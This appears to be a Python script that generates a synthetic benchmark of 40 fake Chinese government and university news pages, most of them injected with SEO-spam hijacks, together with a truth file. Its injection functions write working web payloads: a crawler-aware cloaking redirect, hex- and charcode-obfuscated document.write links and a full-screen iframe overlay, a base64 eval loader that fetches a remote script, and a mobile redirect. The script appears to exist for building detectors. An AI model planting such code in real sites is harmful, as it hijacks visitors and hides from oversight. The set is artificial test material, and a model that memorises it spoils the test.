"""Write synthetic-v49 (bench/data/dev/synthetic-v49, dev since v49 was spent, 2026-12-07; held out in heldout/ from
2026-12-07, when v48 was spent; pending-v49/ at collection): html/sv49-NNN.html + truth.jsonl
(40 pages: 28 hijacked, 12 clean, 4 of the clean pages legit).

python3 make_set.py [OUT]   (default: ../synthetic-v49)

Seed 4949; nothing else (clock, environment, outside files) is read, so a re-run writes the same bytes.
Sites S1-S4: 5 pages each, one template and one injection per site (3/2/3/2 hijacked, the rest clean).
Then 20 single pages (18 hijacked, one form each; 2 clean, 1 of them legit). Page ids are shuffled.
All names, hosts and brands are invented.
"""
import base64
import datetime
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import articles as A  # noqa: E402
from templates import RENDER, ENCODING  # noqa: E402

SEED = 4949
rng = random.Random(SEED)

# invented brand stems (checked by ../validate_v49s.py against every compared spam string, both ways)
BRANDS = ["舸屿", "甯弈", "骞陌", "汧渊", "莒霖", "瀚珀", "珣岚", "醴湍", "骁埕", "翀泓", "岑骊", "嵘澍",
          "筠旸", "稷沅", "琤汀", "邕晟", "漪蘅", "鄞峤", "棣皋", "溍朗", "璩野", "芮隰"]
PY = {"舸屿": "geyu", "甯弈": "ningyi", "骞陌": "qianmo", "汧渊": "qianyuan", "莒霖": "julin", "瀚珀": "hanpo",
      "珣岚": "xunlan", "醴湍": "lituan", "骁埕": "xiaocheng", "翀泓": "chonghong", "岑骊": "cenli",
      "嵘澍": "rongshu", "筠旸": "junyang", "稷沅": "jiyuan", "琤汀": "chengting", "邕晟": "yongsheng",
      "漪蘅": "yiheng", "鄞峤": "yinqiao", "棣皋": "digao", "溍朗": "jinlang", "璩野": "quye", "芮隰": "ruixi"}
TLDS = ["com", "vip", "cc", "top", "net", "xyz", "club", "app"]
NUM = {b: rng.randint(100, 9899) for b in BRANDS}
TLD = {b: rng.choice(TLDS) for b in BRANDS}


def shost(b, sub=""):
    return f"{sub}{PY[b]}{NUM[b]}.{TLD[b]}"


NAV_GOV = ["首页", "政务要闻", "政府信息公开", "政务服务", "政民互动", "走进{p}"]
NAV_EDU = ["首页", "学校概况", "新闻中心", "教学科研", "招生就业", "校园文化"]
SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何林罗高郑梁谢宋唐许韩冯邓曹彭曾肖田董潘袁蔡蒋余于杜叶程魏苏吕丁任沈姚卢钟姜崔谭陆汪范廖石金贾夏韦傅方邹孟熊秦邱江尹薛闫段雷侯龙史黎贺顾毛郝龚邵万钱覃武戴孔汤庞"
GIVEN = ["建华", "晓燕", "志强", "海燕", "明杰", "丽君", "国栋", "雅婷", "俊峰", "慧敏", "文博", "思远", "佳怡", "振宇",
         "玉兰", "宏伟", "静怡", "子涵", "立新", "春梅", "德胜", "婧", "磊", "鹏", "敏", "昊", "雪", "蕾", "涛", "琳"]
VILLAGES = ["青石村", "柳湾", "东坪", "南岗社区", "竹园", "桂花苑", "新民", "河口", "白沙", "三星", "梨树湾", "双桥"]
TOPICS = ["明清方志中的地方社会", "传统村落的保护与活化", "宋代书院与地方教化", "近代报刊与城市文化", "非遗传承的当代路径"]


def person():
    return rng.choice(SURNAMES) + rng.choice(GIVEN)


PROV_CODE = {"湘": 43, "鲁": 37, "赣": 36, "浙": 33, "鄂": 42, "川": 51, "皖": 34, "闽": 35, "苏": 32, "黔": 52,
             "蒙": 15, "粤": 44, "滇": 53, "桂": 45, "陕": 61}


def site(key, tpl, name, host, place, kind, icp, prov, **kw):
    nav_names = NAV_EDU if kind == "edu" else [x.format(p=place) for x in NAV_GOV]
    pre = {"N1": "modules.php?name=News&amp;new_topic=", "P2": "/blog/category/", "X3": "/index.php?module=articles&amp;catid=",
           "E4": "/news/", "T5": "tiki-view_articles.php?topic=", "H6": "/category/"}[tpl]
    nav = [("/" if i == 0 else f"{pre}{i + 10}", n) for i, n in enumerate(nav_names)]
    d = dict(key=key, tpl=tpl, name=name, host=host, place=place, kind=kind, nav=nav, icp=icp,
             theme=host.split(".")[1] if host.count(".") >= 3 else host.split(".")[0],
             code=str(rng.randint(1000000000, 9999999999)),
             psb=f"{prov}公网安备 {PROV_CODE[prov]}{rng.randint(100000000000, 999999999999)}号",
             addr=f"{place}{rng.choice(['迎宾大道', '文昌路', '府前街', '学院路', '滨江路'])}{rng.randint(1, 399)}号",
             zip=str(rng.randint(410000, 559999)), tel=f"0{rng.randint(700, 899)}-{rng.randint(2000000, 8999999)}",
             motto=kw.pop("motto", "明德 博学 笃行 日新"))
    d.update(kw)
    return d


SITES = {
    "S1": site("S1", "N1", "岚堰县", "www.lanyanxian.gov.cn", "岚堰县", "gov", "湘ICP备11006342号", "湘"),
    "S2": site("S2", "X3", "峄川市人民政府", "www.yichuanshi.gov.cn", "峄川市", "gov", "鲁ICP备12031675号-1", "鲁"),
    "S3": site("S3", "E4", "澄岭大学", "news.chengling.edu.cn", "澄岭", "edu", "赣ICP备05004418号", "赣"),
    "S4": site("S4", "T5", "枫渚职业技术学院", "www.fzzyjs.edu.cn", "枫渚", "edu", "浙ICP备10025871号", "浙",
               motto="崇德 尚技 求精 致用"),
}
SITE_FRAMES = {
    "S1": ["flood", "farm", "elder", "police_gamble", "fire"],
    "S2": ["business", "water", "welfare_lottery", "tax", "pension"],
    "S3": ["campus_job", "campus_research", "law_lecture", "campus_lecture", "campus_dorm"],
    "S4": ["campus_sport", "campus_volunteer", "school_read", "campus_teacher", "campus_exam"],
}
SITE_HIJACKED = {"S1": [0, 2, 4], "S2": [0, 3], "S3": [0, 1, 4], "S4": [1, 2]}

# single pages: (template, name, host, place, kind, icp, prov, frame, form); form None = clean
SINGLES = [
    ("N1", "汨川县", "www.michuanxian.gov.cn", "汨川县", "gov", "湘ICP备13002219号", "湘", "tourism", "title-suffix-spam"),
    ("P2", "澴阳市卫生健康局", "wjw.huanyangshi.gov.cn", "澴阳市", "gov", "鄂ICP备09014427号", "鄂", "medical", "meta-refresh-takeover"),
    ("X3", "郪江市人民政府", "www.qijiangshi.gov.cn", "郪江市", "gov", "川ICP备15007736号", "川", "garbage", "spam-source-table"),
    ("E4", "汭城大学", "news.ruicheng-u.edu.cn", "汭城", "edu", "皖ICP备06002153号", "皖", "campus_sport", "porn-keyword-title"),
    ("T5", "沄泽中学", "www.yzzx-school.edu.cn", "沄泽", "edu", "闽ICP备14011620号", "闽", "school_safety", "friend-links-sold-footer"),
    ("H6", "沭阳师范学院文学院", "wxy.syxy-teach.edu.cn", "沭阳", "edu", "苏ICP备05019934号", "苏", "campus_lecture", "hex-docwrite-hidden-links"),
    ("N1", "乌岫县", "www.wuxiuxian.gov.cn", "乌岫县", "gov", "黔ICP备16004471号", "黔", "river", "traditional-spam-line-top"),
    ("P2", "磴口溪市交通运输局", "jtj.dengkouxi.gov.cn", "磴口溪市", "gov", "蒙ICP备11000582号", "蒙", "traffic", "outlet-mark-lead"),
    ("X3", "泸岙县人民政府", "www.luaoxian.gov.cn", "泸岙县", "gov", "浙ICP备13044105号", "浙", "elder", "header-name-spam"),
    ("E4", "桐汭理工大学", "news.trlg.edu.cn", "桐汭", "edu", "苏ICP备05008826号", "苏", "campus_volunteer", "photo-credit-spam"),
    ("T5", "岙溪第一中学", "www.axyz-school.edu.cn", "岙溪", "edu", "粤ICP备12075504号", "粤", "school_read", "spam-author"),
    ("H6", "淄渠学院外国语学院", "wgy.ziqu.edu.cn", "淄渠", "edu", "鲁ICP备06013377号", "鲁", "campus_exam", "body-end-spam-line"),
    ("N1", "郯岭县", "www.tanlingxian.gov.cn", "郯岭县", "gov", "苏ICP备14060211号", "苏", "fire", "charcode-iframe-overlay"),
    ("P2", "漾濞川市图书馆", "www.ybclib.org.cn", "漾濞川市", "gov", "滇ICP备15001763号", "滇", "library", "base64-eval-loader"),
    ("X3", "沅岭市人民政府", "www.yuanlingshi.gov.cn", "沅岭市", "gov", "湘ICP备09012290号", "湘", "flood", "hidden-heading-indent"),
    ("E4", "澧浦大学", "news.lipu-univ.edu.cn", "澧浦", "edu", "湘ICP备05001170号", "湘", "campus_research", "after-html-hidden-links"),
    ("T5", "峒山中学", "www.tszx-edu.edu.cn", "峒山", "edu", "桂ICP备13002938号", "桂", "campus_sport", "reverse-string-mobile-redirect"),
    ("H6", "汶津学院化学化工学院", "hgxy.wenjin.edu.cn", "汶津", "edu", "川ICP备05011284号", "川", "campus_teacher", "font0-span-in-paragraph"),
    ("P2", "岷埠市体育局", "tyj.minbushi.gov.cn", "岷埠市", "gov", "川ICP备12008853号", "川", "sports_lottery", None),
    ("H6", "沣岭学院音乐学院", "yyxy.fengling.edu.cn", "沣岭", "edu", "陕ICP备06007741号", "陕", "campus_dorm", None),
]

FRAME = {f["key"]: f for f in A.FRAMES + A.LEGIT}
LEGIT_KEYS = {f["key"] for f in A.LEGIT}

# ---------------------------------------------------------------- dates and fields


def pick_date():
    d0 = datetime.date(2025, 2, 10) + datetime.timedelta(days=rng.randint(0, 250))
    return d0, f"{rng.randint(8, 17):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def fill(fr, st, d0):
    org = st["name"]
    rg = dict(n1=(12, 980), n2=(20, 3600), n3=(3, 60), n4=(2, 9))
    rg.update(A.NUMS.get(fr["key"], {}))
    slots = dict(p=st["place"], o=org, y=d0.year, m=d0.month, d=d0.day, u="县" if st["place"].endswith("县") else "市",
                 v=rng.choice(VILLAGES), a=rng.randint(72, 86), x=person(), z=rng.choice(TOPICS),
                 **{k: rng.randint(*rg[k]) for k in ("n1", "n2", "n3", "n4")})
    if fr["key"] == "campus_research":
        slots["n4"] = slots["n1"] + slots["n3"]  # total = 青年 + 面上
        slots["n2"] = slots["n4"] * rng.randint(32, 52)  # 万元
    title = fr["title"].format(**slots)
    paras = [p.format(**slots) for p in fr["paras"]]
    return title, paras, fr["source"].format(**slots), fr["column"]


P_STYLE = {"N1": '<p style="text-indent:2em;">{}</p>', "P2": "<p>{}</p>", "X3": '<p style="text-indent:2em">{}</p>',
           "E4": '<p class="elx-p">{}</p>', "T5": '<p style="TEXT-INDENT: 2em; LINE-HEIGHT: 180%">{}</p>',
           "H6": "<p>{}</p>"}


def base_page(st, fr_key, num):
    fr = FRAME[fr_key]
    d0, tm = pick_date()
    if fr_key in A.WINDOWS:
        (m1, d1), (m2, d2) = A.WINDOWS[fr_key]
        a, b = datetime.date(2025, m1, d1), datetime.date(2025, m2, d2)
        d0 = a + datetime.timedelta(days=rng.randint(0, (b - a).days))
    title, paras, source, column = fill(fr, st, d0)
    if st["tpl"] == "H6":
        source = st["name"]  # a department's own site credits itself
    tpl = st["tpl"]
    shown_d0 = d0 - datetime.timedelta(days=rng.choice([0, 0, 1, 2])) if tpl == "X3" else d0
    author = person() if tpl != "X3" else None
    pg = dict(site=st, tpl=tpl, num=num, cid=rng.randint(11, 16), column=column, h_title=title,
              html_title=f"{title} - {st['name']}", header_name=st["name"],
              keywords=f"{st['name']},{column}", desc=title,
              date=d0.isoformat(), time=tm, date_cn=f"{d0.year}年{d0.month}月{d0.day}日",
              date_cn0=f"{shown_d0.year}年{shown_d0.month:02d}月{shown_d0.day:02d}日", date_slash=d0.strftime("%Y/%m/%d"),
              source_shown=source, author_shown=author or "", views=rng.randint(96, 8843),
              editor=person(), photog=person(), publisher=source,
              index_no=f"{rng.randint(11, 65)}{rng.randint(1000, 9999)}{rng.randint(10, 99)}/{d0.year}-{rng.randint(1, 999):05d}",
              doc_no="", paras=list(paras), orig_paras=list(paras), inj={}, truth_source=source, truth_author=author,
              frame=fr_key, legit=fr_key in LEGIT_KEYS, injections=[], spam=[], marker=None, target=None)
    return pg


def render_body(pg):
    fmt = P_STYLE[pg["tpl"]]
    out = []
    for p in pg["paras"]:
        out.append(fmt.format(p) if not p.startswith("<") else p)
    return "\n".join(out)


# ---------------------------------------------------------------- injections
# Each inj_* edits pg (slots, shown fields, body lines) and records injections, spam strings and marker.


def links(b, words, hosts):
    return "".join(f'<a href="https://{h}/" target="_blank">{w}</a>' for w, h in zip(words, hosts))


def js_hex(s):
    return "".join(f"\\x{ord(c):02X}" if ord(c) < 128 else f"\\u{ord(c):04X}" for c in s)


def inj_site_S1(pg, b):
    # keyword-stuffed <title> and metas + off-screen link block at the top of <body> (the 挂码 in title/bottom of
    # ddtbk.com's account; hidden dark-link blocks of the 黑链 write-ups)
    h = shost(b)
    t = f"{b}体育-{b}体育官网-{b}体育APP下载【官方入口】"
    words = [f"{b}体育", f"{b}体育官网", f"{b}电竞", f"{b}棋牌", f"{b}捕鱼游戏", f"{b}体育APP"]
    hosts = [h, h, shost(b, "m."), h, shost(b, "www."), shost(b, "app.")]
    pg["html_title"] = t
    pg["keywords"] = f"{b}体育,{b}体育官网,{b}体育APP下载"
    pg["desc"] = f"{b}体育官网为您提供{b}体育APP下载、{b}电竞、{b}棋牌等服务"
    pg["inj"]["body_top"] = ('<div id="nk_gg" style="position:absolute;top:-3000px;left:-3000px;width:1px;height:1px;overflow:hidden;">'
                             + links(b, words, hosts) + "</div>\n")
    pg["injections"] += ["keyword-stuffed-title", "offscreen-link-block-top"]
    pg["spam"] += [t] + words + [pg["desc"]]


def inj_site_S2(pg, b):
    # referrer / user-agent cloaking loader in <head>: spiders see the page, visitors from a search engine or on a
    # phone are sent to the gambling host (diamont1001/blog#9; xingchenwl/cdn ads/cbcv/dbxf.js is_robot/is_referrer_search/is_mobile)
    h = shost(b)
    code = f"""<script type="text/javascript">
(function(w, d){{
  var ua = navigator.userAgent.toLowerCase(), rf = (d.referrer || "").toLowerCase();
  var sp = ["baiduspider", "sogou web spider", "360spider", "bytespider", "yisouspider", "googlebot", "bingbot"];
  for (var i = 0; i < sp.length; i++) {{ if (ua.indexOf(sp[i]) > -1) return; }}
  var se = ["baidu.com", "sogou.com", "so.com", "sm.cn", "bing.com", "google."], go = false;
  for (var j = 0; j < se.length; j++) {{ if (rf.indexOf(se[j]) > -1) {{ go = true; break; }} }}
  if (go || /android|iphone|ipad|harmonyos|windows phone/.test(ua)) {{
    d.documentElement.style.visibility = "hidden";
    w.setTimeout(function(){{ w.location.replace("https://{h}/?from=" + encodeURIComponent(w.location.hostname)); }}, 30);
  }}
}})(window, document);
</script>
"""
    pg["inj"]["head"] = code
    pg["injections"] += ["referrer-ua-cloak-redirect"]
    pg["marker"] = h
    pg["target"] = h


def inj_site_S3(pg, b):
    # spam line spliced into the article body + 技术支持 credit in the footer
    h = shost(b)
    line = f"{b}娱乐官方网址：{h} 新会员注册首存即享138%优惠"
    credit = f"技术支持：{b}娱乐"
    ps = pg["paras"]
    ps.insert(2, f'<p class="elx-p"><strong>{line}</strong></p>')
    pg["inj"]["footer"] = f' <p class="elx-support">{credit}（<a href="https://{h}/">{h}</a>）</p>\n'
    pg["injections"] += ["body-spam-line", "tech-support-credit-footer"]
    pg["spam"] += [line, credit, f"{b}娱乐"]


def inj_site_S4(pg, b):
    # betting brand standing in the byline: 来源 and 作者 replaced
    src = f"{b}棋牌官网"
    au = f"{b}棋牌代理招商"
    pg["source_shown"] = f'<a href="https://{shost(b)}/" target="_blank">{src}</a>'
    pg["author_shown"] = au
    pg["truth_source"] = None
    pg["truth_author"] = None
    pg["injections"] += ["spam-source", "spam-author"]
    pg["spam"] += [src, au]


def inj_single(pg, form, b):
    h = shost(b)
    if form == "title-suffix-spam":
        s = f"{b}体育直播官网"
        pg["html_title"] = f"{pg['h_title']}_{s}"
        pg["spam"] += [s]
    elif form == "meta-refresh-takeover":
        s = f"{b}视讯娱乐城"
        pg["html_title"] = f"{s}-{pg['h_title']}"
        pg["inj"]["head"] = f'<meta http-equiv="refresh" content="1;url=https://{h}/?id={rng.randint(10000, 99999)}">\n'
        pg["spam"] += [s]
    elif form == "spam-source-table":
        s = f"{b}官方娱乐平台"
        pg["publisher"] = s
        pg["source_shown"] = s
        pg["truth_source"] = None
        pg["spam"] += [s]
    elif form == "porn-keyword-title":
        s = f"{b}影院-午夜免费视频在线看-国产自拍偷拍精品-亚洲一区二区在线播放"
        pg["html_title"] = s
        pg["keywords"] = f"{b}影院,午夜免费视频,国产自拍偷拍"
        pg["spam"] += [s, pg["keywords"]]
    elif form == "friend-links-sold-footer":
        words = [f"{b}体育", f"{b}彩票网", f"{b}电玩城", f"{b}娱乐网址"]
        hs = [h, shost(b, "cp."), shost(b, "dw."), shost(b, "www.")]
        pg["inj"]["footer"] = "<p class=\"tiki-flinks\">友情链接：" + " | ".join(
            f'<a href="https://{x}/" target="_blank">{w}</a>' for w, x in zip(words, hs)) + "</p>\n"
        pg["spam"] += words
    elif form == "hex-docwrite-hidden-links":
        words = [f"{b}棋牌", f"{b}体育投注", f"{b}电子游艺"]
        block = ("<p id='wz_tj' style='position:absolute;top:-999em;left:0'>"
                 + "".join(f"<a href='//{h}/{i}/' title='{w}'>{w}</a>" for i, w in enumerate(words)) + "</p>")
        enc = js_hex(block)
        pg["inj"]["end"] = f'<script type="text/javascript">document.write("{enc}");</script>\n'
        pg["marker"] = enc[:48]
        pg["target"] = h
    elif form == "traditional-spam-line-top":
        s = f"{b}娛樂城官方網址 {h} 首存優惠 線上投注 24小時出款"
        pg["inj"]["body_top"] = f'<div class="nk-topline" align="center"><font color="#cc0000">{s}</font></div>\n'
        pg["spam"] += [s, f"{b}娛樂城"]
    elif form == "outlet-mark-lead":
        s = f"（{b}体育讯）"
        pg["paras"][0] = f"<p>{s}{pg['paras'][0]}</p>"
        pg["spam"] += [f"{b}体育讯"]
    elif form == "header-name-spam":
        s = f"{b}国际娱乐"
        pg["header_name"] = s
        pg["spam"] += [s]
    elif form == "photo-credit-spam":
        s = f"{b}体育赞助"
        pg["photog"] = s
        pg["spam"] += [s]
    elif form == "spam-author":
        s = f"{b}电竞招商部"
        pg["author_shown"] = s
        pg["truth_author"] = None
        pg["spam"] += [s]
    elif form == "body-end-spam-line":
        s = f"更多精彩请访问{b}官网 {h} 注册送体验金"
        pg["paras"].append(f"<p>{s}</p>")
        pg["spam"] += [s, f"{b}官网"]
    elif form == "charcode-iframe-overlay":
        frame = (f'<iframe src="https://{h}/m/" style="position:fixed;top:0;left:0;width:100%;height:100%;'
                 'z-index:2147483647;border:0;background:#fff" frameborder="0"></iframe>')
        k = rng.randint(3, 9)
        codes = ",".join(str(ord(c) + k) for c in frame)
        pg["inj"]["end"] = (f'<script>var _q7=[{codes}],_q8="";for(var _i=0;_i<_q7.length;_i++)'
                            f'{{_q8+=String.fromCharCode(_q7[_i]-{k})}}document.write(_q8);</script>\n')
        pg["marker"] = "var _q7=["
        pg["target"] = h
    elif form == "base64-eval-loader":
        js = ('(function(){var s=document.createElement("script");s.type="text/javascript";'
              f's.src="https://{shost(b, "cdn.")}/j/tj.js?v="+Math.random();'
              'document.getElementsByTagName("head")[0].appendChild(s);})();')
        enc = base64.b64encode(js.encode()).decode()
        pg["inj"]["footer"] = f'<script type="text/javascript">eval(atob("{enc}"));</script>\n'
        pg["marker"] = enc[:40]
        pg["target"] = shost(b, "cdn.")
    elif form == "hidden-heading-indent":
        s = f"{b}棋牌 {b}电子游艺 {b}体育竞猜"
        pg["inj"]["after_h1"] = f'<h3 style="text-indent:-9999em;height:0;overflow:hidden;margin:0">{s}</h3>\n'
        pg["spam"] += [s]
    elif form == "after-html-hidden-links":
        words = [f"{b}棋牌游戏", f"{b}彩票注册", f"{b}体育开户"]
        pg["inj"]["tail"] = ('<div style="display:none;visibility:hidden">'
                             + "".join(f'<a href="https://{h}/?k={i}">{w}</a>' for i, w in enumerate(words)) + "</div>\n")
        pg["spam"] += words
    elif form == "reverse-string-mobile-redirect":
        url = f"https://{shost(b, 'wap.')}/"
        rev = url[::-1]
        pg["inj"]["head"] = (f'<script type="text/javascript">var _u="{rev}".split("").reverse().join("");'
                             'if(/Android|iPhone|iPod|Mobile|HarmonyOS/i.test(navigator.userAgent)){window.location.href=_u;}</script>\n')
        pg["marker"] = rev
        pg["target"] = shost(b, "wap.")
    elif form == "font0-span-in-paragraph":
        s = f"{b}体育APP下载"
        p = pg["paras"][1]
        cut = p.index("，") + 1
        pg["paras"][1] = f'<p>{p[:cut]}<span style="font-size:0;color:#fff">{s}</span>{p[cut:]}</p>'
        pg["keywords"] = f"{pg['site']['name']},{s}"
        pg["spam"] += [s]
    else:
        raise ValueError(form)
    pg["injections"].append(form)


# ---------------------------------------------------------------- build


def build():
    pages = []
    brands = list(BRANDS)
    rng.shuffle(brands)
    num = 1000 + rng.randint(0, 999)
    for key, st in SITES.items():
        b = brands.pop()
        for i, fk in enumerate(SITE_FRAMES[key]):
            num += rng.randint(3, 40)
            pg = base_page(st, fk, num)
            pg["site_key"] = key
            if i in SITE_HIJACKED[key]:
                globals()[f"inj_site_{key}"](pg, b)
            pages.append(pg)
    for tpl, name, host, place, kind, icp, prov, fk, form in SINGLES:
        st = site("single", tpl, name, host, place, kind, icp, prov)
        num += rng.randint(3, 40)
        pg = base_page(st, fk, num)
        pg["site_key"] = "single"
        if form:
            inj_single(pg, form, brands.pop())
        pages.append(pg)
    order = list(range(len(pages)))
    rng.shuffle(order)
    out = []
    for n, idx in enumerate(order, 1):
        pg = pages[idx]
        pg["id"] = f"sv49-{n:03d}"
        pg["body"] = render_body(pg)
        out.append(pg)
    out.sort(key=lambda p: p["id"])
    return out


def url_of(pg):
    st, n = pg["site"], pg["num"]
    return {"N1": f"http://{st['host']}/modules.php?name=News&file=article&sid={n}",
            "P2": f"https://{st['host']}/blog/{pg['date'][:4]}/{pg['date'][5:7]}/a{n}",
            "X3": f"https://{st['host']}/index.php?module=articles&func=display&aid={n}",
            "E4": f"https://{st['host']}/news/{pg['cid']}/{n}.html",
            "T5": f"http://{st['host']}/tiki-read_article.php?articleId={n}",
            "H6": f"https://{st['host']}/{pg['date'][:4]}/{pg['date'][5:7]}/post-{n}"}[pg["tpl"]]


def clean_text(p):
    import re
    return re.sub(r"<[^>]+>", "", p)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v49")
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    rows = []
    for pg in build():
        html = RENDER[pg["tpl"]](pg)
        enc = ENCODING[pg["tpl"]]
        with open(os.path.join(out, "html", pg["id"] + ".html"), "wb") as f:
            f.write(html.encode(enc))  # strict: a character the page's encoding lacks is an error
        st = pg["site"]
        hij = bool(pg["injections"])
        # truth text: the article paragraphs as written, without injected lines or marks
        text = "\n".join(clean_text(p) for p in FRAME_PARAS(pg))
        origin = (f"synthetic: {'site ' + pg['site_key'] if pg['site_key'] != 'single' else 'single page'} ({st['host']}), "
                  f"template {pg['tpl']}, " + (f"hijacked ({', '.join(pg['injections'])})" if hij else
                                               "clean" + (" legit page (lawful lottery/anti-gambling item)" if pg["legit"] else " page")))
        rows.append(dict(id=pg["id"], url=url_of(pg), title=pg["h_title"], date=pg["date"], source=pg["truth_source"],
                         author=pg["truth_author"], text=text, hijacked=hij, injections=pg["injections"],
                         spam_strings=sorted(set(pg["spam"]), key=lambda s: (len(s), s)), legit=pg["legit"], lang="zh",
                         origin=origin, kind="synthetic", site=st["host"], capture="html", encoding=enc,
                         template=pg["tpl"], marker=pg["marker"], target=pg["target"]))
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


def FRAME_PARAS(pg):
    return pg["orig_paras"]


if __name__ == "__main__":
    main()
